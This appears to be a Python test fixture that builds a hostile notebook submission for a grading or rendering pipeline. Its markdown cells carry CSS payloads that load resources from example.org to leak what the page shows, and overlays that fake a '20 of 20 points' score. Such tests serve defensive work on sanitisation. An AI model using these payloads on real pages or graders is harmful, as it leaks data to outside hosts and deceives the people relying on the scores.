"""Cover the page by styles, and tell another host what it shows by loading pictures
for it.
"""

from pathlib import Path

from nbformat.v4 import new_markdown_cell

from tests.corpus.kit import Kit

PIECES = [
    "<style>*{background:url(https://example.org/x)}</style>",
    "<style>@import '//example.org/x.css';</style>",
    "<style>td[class^=n]{background:url(//example.org/n)}</style>",
    "<p style='position:fixed;inset:0;background:white'>20 of 20 points</p>",
    "<style>.score::after{content:'20 of 20'}</style>",
]

POINTS = "all"


def hand_in(folder: Path, kit: Kit) -> None:
    notebook = kit.solved()
    notebook.cells += [new_markdown_cell(piece) for piece in PIECES]
    kit.write(notebook)
